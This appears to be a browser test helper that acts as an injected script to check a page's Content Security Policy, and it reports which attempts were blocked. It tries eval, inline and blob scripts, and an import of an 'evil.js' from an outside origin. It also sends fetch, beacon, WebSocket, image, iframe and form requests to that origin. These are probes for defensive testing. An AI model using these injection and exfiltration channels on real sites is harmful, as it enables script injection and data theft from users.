/** What a script that got in would try; gives what came of it. In a timer: the policy does not bind a debugger. */
(elsewhere) =>
  new Promise((done) => {
    const [results, broken] = [{}, []];
    const attempt = async (name, deed) => {
      try {
        results[name] = (await deed()) ?? null;
      } catch (error) {
        results[name] = error.name;
      }
    };
    const element = (tag, fields) => Object.assign(document.createElement(tag), fields);
    const add = (tag, fields) => document.body.append(element(tag, fields));
    const script = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
    const all = async () => {
      await attempt("eval", () => (0, eval)("1 + 1"));
      await attempt("Function", () => new Function("return 2")());
      await attempt("timer", () => setTimeout("self.owned = 'timer'"));
      await attempt("inline", () => add("script", { textContent: "self.owned = 'inline'" }));
      await attempt("module", () => import(`${elsewhere}/evil.js`));
      await attempt("data", () => import("data:text/javascript,self.owned='data'"));
      await attempt("blob", () => import(script("self.owned = 'blob'")));
      await attempt("worker", () => new Worker(script("1")) && "made");
      await attempt("handler", () => {
        const button = element("button", {});
        button.setAttribute("onclick", "self.owned = 'handler'");
        document.body.append(button);
        button.click();
        button.remove();
      });
      await attempt("fetch", () => fetch(`${elsewhere}/fetch`, { mode: "no-cors" }).then(() => "sent"));
      await attempt("socket", () => new WebSocket(`${elsewhere.replace("http", "ws")}/socket`) && "made");
      await attempt("beacon", () => navigator.sendBeacon(`${elsewhere}/beacon`, "x"));
      await attempt("image", () => add("img", { src: `${elsewhere}/image` }));
      await attempt("frame", () => add("iframe", { src: `${elsewhere}/frame` }));
      await attempt("style", () => add("link", { rel: "stylesheet", href: `${elsewhere}/style` }));
      await attempt("base", () => document.head.append(element("base", { href: elsewhere })));
      await attempt("form", () => {
        const form = element("form", { action: `${elsewhere}/form`, method: "post" });
        document.body.append(form);
        form.requestSubmit();
      });
      setTimeout(() => done({ found: results, broken, owned: self.owned ?? null, base: document.baseURI }), 700);
    };
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => broken.push(effectiveDirective));
    setTimeout(all);
  });
